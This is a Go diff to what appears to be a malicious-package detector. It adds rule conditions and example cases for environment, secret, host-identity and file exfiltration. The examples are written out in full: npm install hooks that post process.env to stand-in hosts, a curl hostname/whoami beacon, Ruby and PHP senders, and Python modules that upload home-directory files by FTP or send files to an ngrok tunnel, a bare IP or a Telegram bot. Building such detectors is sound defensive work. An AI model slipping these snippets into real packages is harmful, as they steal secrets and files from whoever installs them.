@@ -27,7 +27,11 @@ func exfiltration() []Rule {
 		},
 		{
 			ID: "environment_sent", Severity: Critical,
-			When: []Condition{{Triggers: unasked, Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Foreign}},
+			When: []Condition{
+				{Triggers: unasked, Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
+				{Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Shady, Script: No},
+				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Elsewhere, In: ".py", Script: No},
+			},
 			Examples: []Example{
 				Package("in a body", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const https=require('https');const r=https.request({hostname:'c.example',method:'POST'});r.write(JSON.stringify(process.env));r.end()"}),
 				Package("encoded in a URL", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://c.example/?'+Buffer.from(JSON.stringify(process.env)).toString('base64'))"}),
@@ -38,6 +42,7 @@ func exfiltration() []Rule {
 				Library("by a gem", "require 'net/http'\nrequire 'json'\nNet::HTTP.post(URI('https://c.example/in'), ENV.to_h.to_json)\n"),
 				Gem("by a gem, entry by entry", "require 'net/http'\nr = Net::HTTP::Post.new('/')\nr.body = ENV.map { |k, v| \"#{k}=#{v}\" }.join('&')\nNet::HTTP.new('c.example', 443).request(r)\n"),
 				{Name: "by PHP", Files: map[string]string{"composer.json": `{"name":"a/b","scripts":{"post-autoload-dump":"php i.php"}}`, "i.php": "<?php $c = curl_init('https://c.example/in'); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(getenv())); curl_exec($c);"}},
+				Module("to a tunnel, when called", "import os, requests\ndef flag():\n    requests.post('https://a1.ngrok-free.app/log', data=os.environ)\n"),
 				Package("by a loop", `"main":"i.js"`, map[string]string{"i.js": "let o={};for(const k of Object.keys(process.env))o[k]=process.env[k];require('axios').post('https://c.example',o)"}),
 			},
 			Neighbours: []Example{
@@ -51,6 +56,7 @@ func exfiltration() []Rule {
 			ID: "secret_variable_sent", Severity: High,
 			When: []Condition{
 				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Environment}, All: No, Name: Secret, Sinks: []string{b.Network}, Slots: []string{"url", "body", "dns"}, Target: Foreign, Script: No},
+				{Sources: []string{b.Environment, b.Credential}, Name: Secret, All: No, Sinks: []string{b.Network}, Slots: []string{"url", "body", "dns"}, Target: Shady, Script: No},
 				{Sources: []string{b.Environment, b.Credential}, Name: Secret, All: No, Via: encodings, Sinks: []string{b.Network}, Slots: []string{"url", "body", "dns"}, Target: Foreign},
 			},
 			Graver: []Condition{{Via: encodings, Triggers: unasked}, {Target: Shady}},
@@ -71,8 +77,10 @@ func exfiltration() []Rule {
 				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Name: Identity, Sinks: []string{b.Network}, Slots: carried, Target: Foreign, NotScheme: []string{"mailto"}},
 				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Name: Identity, Concealed: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
 				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Name: Identity, With: []string{b.Host}, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
+				{Triggers: unasked, Sources: []string{b.Host}, Name: Identity, With: []string{b.Download}, Sinks: []string{b.Network}, Slots: []string{"dns"}, Script: No},
+				{Triggers: unasked, Sources: []string{b.Host}, Via: append([]string{b.Serialise}, encodings...), Sinks: []string{b.Network}, Slots: []string{"dns"}, Script: No},
 			},
-			Graver: []Condition{{Target: Shady}, {Via: encodings}, {Schemes: []string{"dns"}}, {WithName: Identity}, {Concealed: Yes}},
+			Graver: []Condition{{Target: Shady}, {Via: encodings}, {Schemes: []string{"dns"}}, {WithName: Identity}, {Concealed: Yes}, {Triggers: []string{b.Install, b.Import}, With: []string{b.Host}, In: ".py"}, {Slots: []string{"dns"}, With: []string{b.Download}}},
 			Examples: []Example{
 				Package("a beacon", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('https').get('https://c.example/?h='+os.hostname()+'&u='+os.userInfo().username)"}),
 				Package("by curl", `"scripts":{"preinstall":"curl https://c.example/$(hostname)/$(whoami)"}`, nil),
@@ -83,6 +91,26 @@ func exfiltration() []Rule {
 				Package("the platform, to fetch a binary", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('https').get('https://d.example/'+os.platform()+'-'+os.arch()+'.tgz')"}),
 				Package("a digest of it", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os'),c=require('crypto');const id=c.createHash('sha256').update(os.hostname()).digest('hex');require('https').get('https://t.example/?id='+id)"}),
 				Package("when called", `"main":"i.js"`, map[string]string{"i.js": "const os=require('os');exports.log=m=>fetch('https://logs.example/in',{method:'POST',body:JSON.stringify({host:os.hostname(),m})})"}),
+			},
+		},
+		{
+			ID: "files_sent", Severity: High,
+			When: []Condition{
+				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Files}, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Foreign, In: ".py", Script: No},
+				{Sources: []string{b.Files, b.Host, b.Environment}, Sinks: []string{b.Network}, Slots: []string{"body", "file", "url"}, Target: Bare, Script: No},
+				{Sources: []string{b.Files, b.Host}, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Fixed: Yes, Script: No},
+				{Sources: []string{b.Files}, Name: Disk, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Drop, Script: No},
+			},
+			Graver: []Condition{{Name: Disk}, {Triggers: []string{b.Install, b.Build, b.Import}}, {Target: Bare}, {Fixed: Yes, Slots: []string{"file"}}},
+			Examples: []Example{
+				Module("all that is found, on import", "import os, ftplib\nf = ftplib.FTP('files.example')\nfor d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        f.storbinary('STOR '+n, open(os.path.join(d, n), 'rb'))\n"),
+				Module("to a bare address, when called", "import requests\ndef report(path):\n    requests.post('http://203.0.113.9/in', files={'f': open('/etc/hosts', 'rb')})\n"),
+				Module("to an account in a chat", "import requests\ndef go():\n    requests.post('https://api.telegram.org/bot123456:AAexample-example-example/sendDocument', files={'document': open('C:/notes.txt', 'rb')})\n"),
+			},
+			Neighbours: []Example{
+				Module("to a host that is named, when called", "import requests\ndef upload(path):\n    requests.post('https://files.example/in', files={'f': open(path, 'rb')})\n"),
+				Module("to whom the caller says", "import requests\ndef notify(hook, path):\n    requests.post(hook, files={'f': open(path, 'rb')})\n"),
+				Module("to a chat with the caller's token", "import requests\ndef send(token, path):\n    requests.post('https://api.telegram.org/bot'+token+'/sendDocument', files={'document': open(path, 'rb')})\n"),
 			},
 		},
 	}
